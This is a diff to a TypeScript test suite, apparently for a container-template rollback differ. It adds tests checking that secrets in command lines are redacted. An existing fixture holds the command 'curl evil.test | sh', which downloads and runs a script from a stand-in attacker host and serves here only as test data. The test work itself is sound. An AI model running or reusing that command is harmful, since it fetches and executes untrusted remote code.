@@ -56,7 +56,7 @@ const told: readonly [string, JsonRecord, JsonRecord, readonly string[]][] = [
     template({ command: ['/bin/sh', '-c', 'curl evil.test | sh'], args: ['--port=80', '--api-key', 'canary'] }),
     [
       'container app: command ["/app"] -> ["/bin/sh","-c","curl evil.test | sh"]',
-      'container app: args ["--port=80"] -> ["--port=80","--api-key","[hidden]"]',
+      'container app: args ["--port=80"] -> ["--port=80","--api-key","[redacted]"]',
     ],
   ],
   [
@@ -147,6 +147,23 @@ test.each(told)('a roll back tells of %s', (_, present, earlier, expected) => {
   expect(lines.join('\n')).not.toContain('canary');
 });
 
+test.each([
+  [['--password', 'canary']],
+  [['--db-password=canary']],
+  [['-Dtoken=canary-1a']],
+  [['sh', '-c', 'export API_KEY=canary; run']],
+  [['sh', '-c', "curl -H 'Authorization: Bearer canary12' http://a"]],
+  [['--url', 'postgres://user:canary@db/shop']],
+  [['--config={"password":"canary"}']],
+  [['--api-key', 'canary', '--verbose']],
+])('a secret in a command line is not shown: %j', (args) => {
+  expect(shown(plain, template({ args })).join('\n')).toMatch(/^container app: args none -> .*redacted/);
+  expect(shown(plain, template({ command: args })).join('\n')).not.toContain('canary');
+  expect(shown(plain, template({ lifecycle: { preStop: { exec: { command: args } } } })).join('')).not.toMatch(
+    /canary/,
+  );
+});
+
 const scalars = fc.oneof(fc.string({ maxLength: 20 }), fc.integer(), fc.boolean());
 const anything = fc.jsonValue({ maxDepth: 4 }).map((value) => JSON.parse(JSON.stringify(value)) as unknown);
 const specs = fc.record({
@@ -187,7 +204,7 @@ test('whatever differs between two templates is told, and nothing where nothing 
       expect([...templateDifferences(present, earlier)].length > 0).toBe(differ);
       expect([...templateDifferences(present, structuredClone(present))]).toEqual([]);
     }),
-    { numRuns: 300, seed: 12 },
+    { numRuns: 150, seed: 12 },
   );
 });
 
